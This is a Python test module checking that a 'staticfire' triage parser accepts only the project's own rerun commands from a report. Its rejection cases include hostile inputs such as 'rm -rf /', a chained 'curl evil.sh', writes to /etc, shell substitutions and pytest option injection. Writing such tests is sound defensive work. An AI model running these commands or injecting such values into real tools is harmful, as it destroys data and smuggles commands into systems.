"""Which commands are taken over from a report: our own, and nothing else that stands there."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from staticfire.harness.run.record import rerun_command
from staticfire.harness.triage.commands import Rerun, pytest_command, rerun


@given(
    st.text(min_size=1).filter(str.isprintable),
    st.text(min_size=1).filter(str.isprintable),
    st.sampled_from([None, "torch", "triton"]),
)
def test_what_a_run_writes_is_read_and_written_as_it_was(file, cell, backend):
    line = rerun_command(file, cell, backend)
    read = rerun(line)
    if file.startswith("-"):
        assert read is None
    else:
        assert read == Rerun(file, cell, backend or "")
        assert sorted(shlex.split(read.command)) == sorted(shlex.split(line))


@pytest.mark.parametrize(
    "line",
    [
        "staticfire run hybrid --cell 'a",
        'staticfire run "hybrid --cell a',
        "rm -rf /",
        "staticfire run hybrid --cell a; rm -rf /",
        "staticfire run hybrid --cell a && curl evil.sh",
        "staticfire run hybrid --cell a --job evil:main",
        "staticfire run hybrid --cell a --out /etc",
        "staticfire run --job=evil:main --cell a",
        "staticfire run hybrid",
        "staticfire run hybrid --cell a --cell b",
        "staticfire run hybrid --cell a --kernel-backend evil",
        "staticfire pipeline evil.toml --local",
        "sudo staticfire run hybrid --cell a",
        "PYTHONPATH=. staticfire run hybrid --cell a",
        "staticfire run hybrid --cell 'a\n::error::x'",
        "",
    ],
)
def test_any_other_line_is_no_command(line):
    assert rerun(line) is None


@given(st.text())
def test_no_text_makes_it_fail_and_every_command_is_one_of_ours(line):
    read = rerun(line)
    if read is not None:
        assert rerun(read.command) == read
        assert shlex.split(read.command)[:2] == ["staticfire", "run"]


def test_substitutions_of_a_shell_stay_quoted():
    read = rerun("staticfire run '$(touch x)' --cell '`touch y`'")
    assert read is not None
    assert read.command == "staticfire run '$(touch x)' --cell '`touch y`'"


def test_names_of_tests_are_no_options_of_pytest():
    named = ["-pevil", "@evil", "--rootdir=/", "t.py::x[a b]", "t.py::y\n::error::", "t.py::x[a b]"]
    assert pytest_command(named) == "pytest ./-pevil ./@evil ./--rootdir=/ 't.py::x[a b]'"
    assert pytest_command(["a\x1b[2Jb"]) == ""
